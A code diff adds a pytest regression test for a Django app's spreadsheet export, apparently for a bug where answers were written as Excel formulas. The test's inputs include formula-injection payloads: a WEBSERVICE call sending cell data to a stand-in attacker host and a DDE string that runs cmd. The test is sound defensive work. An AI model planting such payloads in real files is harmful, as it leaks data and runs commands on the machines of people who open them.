@@ -3,6 +3,7 @@
 import io
 import subprocess
 import sys
+import zipfile
 
 import pytest
 from django.urls import reverse
@@ -81,3 +82,27 @@ def test_the_register_downloads_for_members_only(client):
     assert (
         client.get(reverse("statements:register", args=[organisation.pk, "pdf"])).status_code == 404
     )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=WEBSERVICE("https://aanvaller.example/?"&A1)',
+        '=HYPERLINK("https://aanvaller.example","Klik")',
+        "+31 20 123 4567",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+    ],
+)
+def test_an_answer_that_looks_like_a_formula_is_stored_as_text(text):
+    # Issue 17: openpyxl wrote such an answer as a formula that Excel would run.
+    answers = load_example("qlinx")
+    answers.activities[0].name = text
+    answers.activities[0].purpose = text
+    data = register_xlsx(answers)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml
+    sheet = load_workbook(io.BytesIO(data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == text]
+    assert len(cells) >= 2 and all(cell.data_type == "s" for cell in cells)
